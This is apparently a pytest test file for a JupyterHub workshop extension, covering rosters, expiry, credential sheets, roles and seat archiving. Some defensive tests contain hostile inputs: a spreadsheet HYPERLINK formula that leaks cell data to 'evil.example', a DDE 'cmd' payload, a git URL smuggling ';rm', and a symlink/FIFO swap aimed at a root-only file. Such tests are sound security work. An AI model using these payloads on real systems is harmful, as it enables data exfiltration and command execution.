"""Pure workshop logic: roster, settings, sheet, roles, expiry, seat costs, content."""

from __future__ import annotations

import csv
import io
import tarfile
from datetime import datetime, timedelta

import pytest
import sqlalchemy as sa
import zstandard

from jupyter_ext.accounts import Account, AccountStore
from jupyter_ext.hub.workshop_restriction import spawn_rules
from jupyter_ext.workshop import model
from jupyter_ext.workshop.content import hub_pull_link, parse_content, server_pull_path, target_dir
from jupyter_ext.workshop.expiry import allowed_profiles, refusal, servers_to_stop
from jupyter_ext.workshop.homes import archive_home
from jupyter_ext.workshop.roles import instructor_role, roles_from_db
from jupyter_ext.workshop.roster import RosterError, parse_roster, seat_names
from jupyter_ext.workshop.seatcost import interval_costs
from jupyter_ext.workshop.sheet import UNCHANGED, Credential, read_csv, render_csv, render_html
from jupyter_ext.workshop.store import WorkshopStore

NOW = datetime(2026, 11, 24, 12, 0, 0)


def test_seat_names():
    assert [s.username for s in seat_names("bio", 3)] == ["bio-01", "bio-02", "bio-03"]
    assert seat_names("bio", 120)[-1].username == "bio-120"
    with pytest.raises(ValueError, match="--seats"):
        seat_names("bio", 0)


def test_roster_reports_every_bad_line():
    text = "username,display_name,email\nann,Ann,a@x\n\n# comment\nAnn,Big Ann,\nann,dup,\nb c,,\n,,\nzed,Zed,z@x,extra\nok_1,,\n"
    with pytest.raises(RosterError) as exc:
        parse_roster(text, "r.csv")
    assert [n for n, _ in exc.value.problems] == [5, 6, 7, 8, 9]
    msgs = dict(exc.value.problems)
    assert "invalid username 'Ann'" in msgs[5]
    assert "duplicate username 'ann' (first on line 2)" in msgs[6]
    assert "the username is empty" in msgs[8]
    assert "4 fields" in msgs[9]
    assert "r.csv:7:" in str(exc.value)


def test_roster_without_header_and_unknown_column():
    seats = parse_roster("ann\nbob\n")
    assert [s.username for s in seats] == ["ann", "bob"]
    seats = parse_roster("username,display_name\nann,Ann Lee\n")
    assert seats[0].display_name == "Ann Lee"
    with pytest.raises(RosterError, match="unknown column"):
        parse_roster("username,phone\nann,123\n")
    with pytest.raises(RosterError, match="empty"):
        parse_roster("\n# nothing\n")


def test_settings_parsing():
    assert model.parse_expiry("2026-12-01") == datetime(2026, 12, 2)
    assert model.parse_expiry("2026-12-01T09:30") == datetime(2026, 12, 1, 9, 30)
    assert model.parse_expiry("+90s", NOW) == NOW + timedelta(seconds=90)
    assert model.parse_expiry("+2d", NOW) == NOW + timedelta(days=2)
    with pytest.raises(model.WorkshopError, match="--expires"):
        model.parse_expiry("next week")
    assert model.parse_usd("12.5") == 12_500_000
    assert model.parse_usd("0.000001") == 1
    for bad in ("-1", "abc", "nan"):
        with pytest.raises(model.WorkshopError, match="--budget-per-seat"):
            model.parse_usd(bad)
    assert model.format_usd(12_500_000) == "$12.50"
    with pytest.raises(model.WorkshopError, match="workshop name"):
        model.validate_name("Bio 101")
    with pytest.raises(model.WorkshopError, match="allowed: lab, vscode"):
        model.check_profiles(("lab", "gpu"), ["lab", "vscode"])


def test_expiry_beyond_datetimes_range_is_a_workshop_error():
    for text in ("+99999999999d", "+999999999d", "9999-12-31", "+" + "9" * 5000 + "s"):
        with pytest.raises(model.WorkshopError, match="--expires"):  # were OverflowError / ValueError
            model.parse_expiry(text, NOW)


def test_prewarm_starts_is_a_time_now_or_ahead():
    assert model.parse_starts(None, NOW) == NOW and model.parse_starts("  ", NOW) == NOW
    assert model.parse_starts("+2h", NOW) == NOW + timedelta(hours=2)
    assert model.parse_starts("2026-11-24T13:30", NOW) == datetime(2026, 11, 24, 13, 30)
    assert model.parse_starts("2026-11-24T14:00+02:00", NOW) == NOW  # an offset is converted to UTC
    assert model.parse_starts("2026-11-24T11:57", NOW) == datetime(2026, 11, 24, 11, 57)  # typed a moment late
    for text, says in (("2026-11-25", "give the time too"),  # as --expires this meant the next midnight
                       ("2026-11-24T11:00", "is in the past"), ("2020-01-01T00:00", "is in the past"),
                       ("+-5m", "--starts"), ("+5x", "--starts"), ("tomorrow", "--starts"),
                       ("+99999999999d", "too far ahead"), ("2026-13-01T00:00", "--starts")):
        with pytest.raises(model.WorkshopError, match=says) as info:
            model.parse_starts(text, NOW)
        assert "--expires" not in str(info.value)


def test_prewarm_minutes():
    assert [model.parse_minutes(t, "--grace") for t in ("0", "30", " 45 ", "90m", "2h", "24H", "1440")] == [
        0, 30, 45, 90, 120, 1440, 1440]
    for bad in ("-5", "1441", "25h", "30s", "1d", "abc", "", "3.5", "1e3", "+5", "99999999999999999999"):
        with pytest.raises(model.WorkshopError, match="--grace .*minutes from 0 to 1440"):
            model.parse_minutes(bad, "--grace")


def test_content_links():
    assert parse_content("http://127.0.0.1:9/x/course.git@v1.2") == ("http://127.0.0.1:9/x/course.git", "v1.2")
    assert parse_content("https://user@host/course.git") == ("https://user@host/course.git", None)
    for bad in ("file:///etc", "git@github.com:a/b.git", "http://h/c.git@a;rm"):
        with pytest.raises(model.WorkshopError, match="--content"):
            parse_content(bad)
    assert target_dir("https://h/org/course.git") == "course"
    link = hub_pull_link("http://hub:8000/", "https://h/org/course.git", "main")
    assert link == ("http://hub:8000/hub/user-redirect/git-pull?repo=https%3A%2F%2Fh%2Forg%2Fcourse.git"
                    "&branch=main&targetpath=course&urlpath=lab%2Ftree%2Fcourse")
    assert server_pull_path("https://h/c.git", None).startswith("/git-pull?repo=")


def ws(**kw):
    base = dict(name="bio", expires_at=NOW + timedelta(hours=1), profiles=("lab",), instructors=("t1",),
                seats=("bio-01", "bio-02"))
    base.update(kw)
    return model.Workshop(**base)


def test_sheet_csv_and_html():
    creds = [Credential("bio-01", "amber-basin-cedar-42", "Ann <b>"), Credential("bio-02", UNCHANGED),
             Credential("t1", "pw-t1-long", role="instructor")]
    text = render_csv(ws(), creds, "http://hub/hub/login")
    assert text.splitlines()[0] == "workshop,username,password,display_name,role,login_url,expires_utc"
    assert read_csv(text) == {"bio-01": "amber-basin-cedar-42", "t1": "pw-t1-long"}
    html = render_html(ws(), creds, "http://hub/hub/login")
    assert html.count('class="card"') == 3
    assert "Ann &lt;b&gt;" in html and "Ann <b>" not in html
    assert "break-inside:avoid" in html


def test_instructor_role_names_each_seat_never_the_group():
    """Finding 5: a group may hold accounts that are not seats (an adopted group),
    so no instructor scope is filtered by group: each names one seat."""
    role = instructor_role(ws())
    assert role["name"] == "workshop-bio-instructors" and role["users"] == ["t1"]
    assert not [s for s in role["scopes"] if "!group=" in s or "!" not in s]
    targets = {s.split("!user=", 1)[1] for s in role["scopes"]}
    assert targets == set(ws().seats)
    assert "servers!user=bio-01" in role["scopes"] and "access:servers!user=bio-02" in role["scopes"]
    assert not [s for s in role["scopes"] if s.startswith("read:groups")]  # would name non-seat members


def test_expiry_decisions():
    def acct(name, expires=None, disabled=False):
        return Account(name, False, disabled, expires, "bio")

    accounts = {"a": acct("a", NOW - timedelta(seconds=1)), "b": acct("b", NOW + timedelta(hours=1)),
                "c": acct("c", None, disabled=True)}
    stop = servers_to_stop(["a", "b", "c", "stranger"], accounts, NOW)
    assert set(stop) == {"a", "c"} and "expired" in stop["a"] and "disabled" in stop["c"]
    open_ws, closed = ws(), ws(name="old", closed_at=NOW - timedelta(days=1), profiles=("vscode",))
    expired = ws(name="exp", expires_at=NOW - timedelta(minutes=1))
    assert refusal([open_ws, closed], NOW) is None
    assert "has been closed" in refusal([closed], NOW)
    assert "ended on" in refusal([expired], NOW)
    assert allowed_profiles([open_ws, closed], NOW) == {"lab"}
    assert allowed_profiles([ws(profiles=())], NOW) is None


def test_interval_costs_in_micro_dollars():
    t = NOW
    events = [
        ("a", "", "start", 0.096, t),
        ("a", "", "stop", 0.096, t + timedelta(hours=1)),
        ("b", "", "start", 1.0, t),
        ("a", "", "start", 0.096, t + timedelta(hours=2)),
    ]
    costs = interval_costs(events, t + timedelta(hours=2, minutes=30))
    assert costs == {"a": 96_000 + 48_000, "b": 2_500_000}
    assert all(isinstance(v, int) for v in costs.values())


def test_store_rules_and_roles_from_db(tmp_path):
    url = f"sqlite:///{tmp_path}/lens.sqlite"
    store = WorkshopStore.from_url(url)
    # spawn_rules reads the real clock: the workshop must be open now, whatever the date
    store.save(ws(seats=(), expires_at=model.utcnow() + timedelta(days=1)))
    from jupyter_ext.workshop.roster import Seat

    assert store.add_seats("bio", [Seat("bio-01", "Ann"), Seat("bio-02")]) == ["bio-01", "bio-02"]
    assert store.add_seats("bio", [Seat("bio-01")]) == []
    got = store.get("bio")
    assert got.seats == ("bio-01", "bio-02") and got.profiles == ("lab",)
    roles = roles_from_db(url)
    assert roles[0]["name"] == "workshop-bio-instructors"
    assert "access:servers!user=bio-01" in roles[0]["scopes"]
    rules = spawn_rules({"bio", "other"}, url)
    assert rules.allowed == {"lab"} and rules.refusal is None and rules.workshops == ("bio",)
    assert spawn_rules({"other"}, url).allowed is None
    # with the user (what the spawner passes): only the workshop's seats are bound by it
    assert spawn_rules({"bio"}, url, user="bio-01").allowed == {"lab"}
    assert spawn_rules({"bio"}, url, user="outsider") == spawn_rules(set())
    store.close("bio")
    assert "closed" in spawn_rules({"bio"}, url).refusal
    assert roles_from_db(url) == []
    assert roles_from_db("sqlite:////nonexistent/dir/x.sqlite") == []


def test_archive_home(tmp_path):
    home = tmp_path / "home" / "bio-01"
    (home / "work").mkdir(parents=True)
    (home / "work" / "notes.ipynb").write_text("{}")
    dest = archive_home(home, tmp_path / "out" / "bio-01.tar.zst")
    with open(dest, "rb") as f, zstandard.ZstdDecompressor().stream_reader(f) as r:
        with tarfile.open(fileobj=r, mode="r|") as tar:
            names = [m.name for m in tar]
    assert "bio-01/work/notes.ipynb" in names
    assert archive_home(tmp_path / "missing", tmp_path / "x.tar.zst") is None
    assert oct(dest.stat().st_mode & 0o777) == "0o600"


def test_account_store_expiry_message(tmp_path):
    store = AccountStore(sa.create_engine(f"sqlite:///{tmp_path}/a.sqlite"))
    pw = store.create("bio-01", expires_at=model.utcnow() - timedelta(minutes=1), workshop="bio")
    account, why = store.check("bio-01", pw)
    assert account is None and why.startswith("This account expired on")


def test_adopted_seats_are_bound_only_while_the_workshop_is_open(tmp_path):
    """Finding 5: a group member who is not a seat is never bound by the workshop;
    an adopted seat (an account the workshop did not make) is bound while it is
    open, and free again once it is closed. Seats the workshop made stay refused."""
    from jupyter_ext.workshop.roster import Seat

    url = f"sqlite:///{tmp_path}/lens.sqlite"
    store = WorkshopStore.from_url(url)
    store.save(ws(seats=(), expires_at=model.utcnow() + timedelta(days=1)))
    store.add_seats("bio", [Seat("bio-01"), Seat("ann")])
    accounts = AccountStore(store.engine)
    accounts.create("bio-01", "pw-bio-01-long", workshop="bio")  # made by the workshop
    accounts.create("ann", "pw-ann-long-enough")  # a regular account, adopted
    for user in ("bio-01", "ann"):
        assert spawn_rules({"bio"}, url, user=user).allowed == {"lab"}
    assert spawn_rules({"bio", "lab-x"}, url, user="bob").allowed is None  # member, not a seat
    store.close("bio")
    assert "closed" in spawn_rules({"bio"}, url, user="bio-01").refusal
    assert spawn_rules({"bio"}, url, user="ann") == spawn_rules(set())
    assert spawn_rules({"bio"}, url, user="bob") == spawn_rules(set())


def test_sheet_marks_adopted_accounts_and_never_reads_them_back():
    from jupyter_ext.workshop.sheet import EXISTING

    creds = [Credential("bio-01", "amber-basin-cedar-42"), Credential("ann", EXISTING, "Ann")]
    text = render_csv(ws(), creds, "http://hub/hub/login")
    assert "ann,(existing account: password unchanged),Ann" in text
    assert read_csv(text) == {"bio-01": "amber-basin-cedar-42"}
    html = render_html(ws(), creds, "http://hub/hub/login")
    assert "Your existing account: sign in with your own password." in html


def test_clashes_refuse_regular_accounts_unless_adopted(tmp_path):
    from jupyter_ext.workshop.ops import check_clashes
    from jupyter_ext.workshop.roster import Seat

    accounts = AccountStore(sa.create_engine(f"sqlite:///{tmp_path}/a.sqlite"))
    accounts.create("ann", "pw-ann-long-enough")
    accounts.create("chem-01", "pw-chem-long", workshop="chem")
    seats = [Seat("ann"), Seat("chem-01")]
    assert check_clashes(accounts, "bio", seats, ()) == [
        "'ann' already belongs to a regular account", "'chem-01' already belongs to workshop 'chem'"]
    # --adopt takes in regular accounts, never another workshop's seats
    assert check_clashes(accounts, "bio", seats, (), adopt=True) == ["'chem-01' already belongs to workshop 'chem'"]
    # a seat adopted by an earlier run is the workshop's own now
    assert check_clashes(accounts, "bio", [Seat("ann")], (), recorded=frozenset({"ann"})) == []


def test_spawn_rules_without_a_database_yet_and_with_a_broken_one(tmp_path):
    # no lens database yet (a hub before any workshop): no workshop, no restriction
    assert spawn_rules({"bio"}, f"sqlite:///{tmp_path}/missing/lens.sqlite") == spawn_rules(set())
    # a database that exists but cannot be read: fail closed
    bad = tmp_path / "bad.sqlite"
    bad.write_bytes(b"this is not a sqlite file" * 100)
    assert "could not be read" in spawn_rules({"bio"}, f"sqlite:///{bad}").refusal


def test_sheet_csv_neutralises_formulas_from_the_roster():
    """Finding 9: roster display names must not run as spreadsheet formulas."""
    hostile = ['=HYPERLINK("http://evil.example/?"&C2,"click")', "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(1)"]  # (tab, CR: the roster strips them; see safe_cell test)
    roster = "username,display_name\n" + "".join(
        f'ann{i},"{name.replace(chr(34), chr(34) * 2)}"\n' for i, name in enumerate(hostile))
    seats = parse_roster(roster, "r.csv")
    creds = [Credential(s.username, f"pw-{i}", s.display_name) for i, s in enumerate(seats)]
    text = render_csv(ws(), creds, "http://hub/hub/login")
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [r["display_name"] for r in rows]
    assert [c for c in cells if not c.startswith("'")] == []
    assert [c[1:] for c in cells] == [s.display_name for s in seats]
    # every other cell is safe as well, and the passwords read back unchanged
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    assert read_csv(text) == {s.username: f"pw-{i}" for i, s in enumerate(seats)}


def test_safe_cell_is_the_owasp_recipe():
    from jupyter_ext.csvsafe import safe_cell, unguard_cell

    for text in ("=1+1", "+A1", "-A1", "@A1", "\tx", "\rx", "-2+3"):
        assert safe_cell(text) == "'" + text and unguard_cell(safe_cell(text)) == text
    for value in ("plain", "a=b", "-12.50", "+3", "1e-3", 5, -2.5, None, ""):
        assert safe_cell(value) == value


def test_close_archive_skips_files_a_seat_swaps_after_the_scan(tmp_path):
    """Finding 3: archiving as root never follows a link nor waits on a FIFO that
    a seat swapped in between the scan and the read; both are reported."""
    import os
    import threading

    from jupyter_ext.archive.engine import ArchiveEngine
    from jupyter_ext.archive.repository import Principal
    from jupyter_ext.workshop.ops import archive_seat

    secret_dir = tmp_path / "root-only"
    secret_dir.mkdir(mode=0o700)
    secret = secret_dir / "shadow"
    secret.write_bytes(os.urandom(2048))
    secret.chmod(0o600)
    home = tmp_path / "homes" / "bio-01"
    home.mkdir(parents=True)
    (home / "work.ipynb").write_text("{}")
    (home / "link-me").write_text("was a file")
    (home / "pipe-me").write_text("was a file")

    def swap(items):
        (home / "link-me").unlink()
        os.symlink(secret, home / "link-me")
        (home / "pipe-me").unlink()
        os.mkfifo(home / "pipe-me")

    skipped: list[str] = []
    out: dict = {}
    dest = tmp_path / "archive"
    t = threading.Thread(target=lambda: out.setdefault("r", archive_seat(
        "bio-01", home, dest, "bio", archive_home, skipped=skipped, after_scan=swap)), daemon=True)
    t.start()
    t.join(60)
    assert not t.is_alive(), "the close hung on a FIFO"
    assert out["r"].startswith(str(dest / "repository"))
    assert sorted(s.split(":")[0] for s in skipped) == ["bio-01/link-me", "bio-01/pipe-me"]
    eng = ArchiveEngine(repository=str(dest / "repository"), cache_dir="")
    [a] = eng.list(owner="user:bio-01", principal=Principal("lens-admin", admin=True))
    shown = eng.show(a["id"], owner="user:bio-01", principal=Principal("lens-admin", admin=True))
    assert {f["path"] for f in shown["files"]} == {"bio-01", "bio-01/work.ipynb"}
